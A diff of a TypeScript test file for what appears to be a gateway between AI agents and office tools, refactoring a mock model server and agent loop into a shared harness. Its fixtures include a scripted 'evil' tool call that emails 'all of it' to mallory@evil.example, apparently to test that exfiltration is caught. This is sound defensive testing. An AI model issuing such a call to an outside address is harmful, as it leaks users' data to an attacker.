@@ -8,77 +8,37 @@ import { tempFolder } from '../harness/cleanup.ts';
 import { anthropicClient, openaiClient } from '../harness/clients.ts';
 import { type TestTools, connectAgent, localTools, saidBy, startTools } from '../harness/mcp.ts';
 import { OFFICE_LABELS, buildOffice } from '../harness/office.ts';
+import {
+  type Message,
+  type Plan,
+  type ScriptedCall,
+  runAgent as run,
+  startScriptedModel,
+} from '../harness/scripted-agent.ts';
 import { type TestServer, behind, eventually, startTestServer } from '../harness/server.ts';
-import { type TestUpstream, beginStream, sendJson, startUpstream } from '../harness/upstream.ts';
-
-interface Call {
-  readonly name: string;
-  readonly arguments: unknown;
-}
-type Message = Record<string, unknown>;
+import { type TestUpstream, sendJson, startUpstream } from '../harness/upstream.ts';
 
 let model: TestUpstream;
 let office: TestTools;
 let server: TestServer;
 let key: string;
 /** What the model proposes, by what it was last told. */
-let plan: (messages: readonly Message[]) => readonly Call[];
+let plan: Plan;
 
 const labels = join(tempFolder(), 'labels.json');
-const evil: Call = {
+const evil: ScriptedCall = {
   name: 'office__send_email',
   arguments: { recipients: ['mallory@evil.example'], body: 'all of it' },
 };
-const good: Call = {
+const good: ScriptedCall = {
   name: 'office__send_email',
   arguments: { recipients: ['bob@corp.example'], body: 'Lunch is at noon.' },
 };
 const lastOf = (messages: readonly Message[]): string => String(messages.at(-1)?.['content'] ?? '');
 
-function toToolCalls(calls: readonly Call[]): unknown[] {
-  return calls.map((call, index) => ({
-    id: `call_${index}_${Math.random().toString(36).slice(2)}`,
-    type: 'function',
-    function: { name: call.name, arguments: JSON.stringify(call.arguments) },
-  }));
-}
-
 beforeAll(async () => {
   writeFileSync(labels, JSON.stringify(OFFICE_LABELS));
-  model = await startUpstream((response, { body }) => {
-    const calls = plan(body['messages'] as Message[]);
-    const common = { id: 'chatcmpl-1', created: 1, model: 'm' };
-    if (body['stream'] === true) {
-      const write = beginStream(response);
-      const chunk = (delta: object, finish: string | null = null): void =>
-        write(
-          `data: ${JSON.stringify({ ...common, object: 'chat.completion.chunk', choices: [{ index: 0, delta, finish_reason: finish }] })}\n\n`,
-        );
-      chunk({ role: 'assistant', content: 'Well. ' });
-      for (const [index, call] of toToolCalls(calls).entries()) {
-        const { function: inner, ...rest } = call as { function: { name: string; arguments: string } };
-        chunk({ tool_calls: [{ index, ...rest, function: { name: inner.name, arguments: '' } }] });
-        for (const piece of inner.arguments.match(/.{1,7}/gs) ?? []) {
-          chunk({ tool_calls: [{ index, function: { arguments: piece } }] });
-        }
-      }
-      chunk({}, calls.length > 0 ? 'tool_calls' : 'stop');
-      write('data: [DONE]\n\n');
-      response.end();
-      return;
-    }
-    const message = {
-      role: 'assistant',
-      content: calls.length > 0 ? null : 'Done.',
-      ...(calls.length > 0 ? { tool_calls: toToolCalls(calls) } : {}),
-    };
-    sendJson(response, {
-      ...common,
-      object: 'chat.completion',
-      choices: [{ index: 0, message, finish_reason: calls.length > 0 ? 'tool_calls' : 'stop' }],
-      usage: { prompt_tokens: 1, completion_tokens: 1, total_tokens: 2 },
-    });
-  });
+  model = await startScriptedModel(() => plan);
   office = await startTools({}, buildOffice);
   server = await startTestServer({
     ...behind(model.url),
@@ -100,30 +60,8 @@ beforeAll(async () => {
   ({ key } = await server.createKey({ tools: ['*'] }));
 });
 
-/** An unmodified agent: asks the model, calls what it proposes, until it proposes nothing. */
-async function runAgent(prompt: string, tools: Client, stream = false): Promise<{ messages: Message[]; said: string }> {
-  const client = openaiClient({ address: server.address, key });
-  const messages: Message[] = [{ role: 'user', content: prompt }];
-  for (let turn = 0; turn < 6; turn++) {
-    const request = { model: 'gpt', messages: messages as unknown as OpenAI.ChatCompletionMessageParam[] };
-    const completion = stream
-      ? await client.chat.completions.stream(request).finalChatCompletion()
-      : await client.chat.completions.create(request);
-    const { message } = completion.choices[0]!;
-    messages.push(message as unknown as Message);
-    if (message.tool_calls === undefined || message.tool_calls.length === 0)
-      return { messages, said: message.content ?? '' };
-    for (const call of message.tool_calls) {
-      if (call.type !== 'function') continue;
-      const result = await tools.callTool({
-        name: call.function.name,
-        arguments: JSON.parse(call.function.arguments) as Message,
-      });
-      messages.push({ role: 'tool', tool_call_id: call.id, content: saidBy(result) });
-    }
-  }
-  throw new Error('the agent does not come to an end');
-}
+const runAgent = (prompt: string, tools: Client, stream = false): ReturnType<typeof run> =>
+  run({ address: server.address, key }, prompt, tools, stream);
 
 const sent = (): unknown[] => office.calls.filter(({ tool }) => tool === 'send_email').map(({ args }) => args);
 
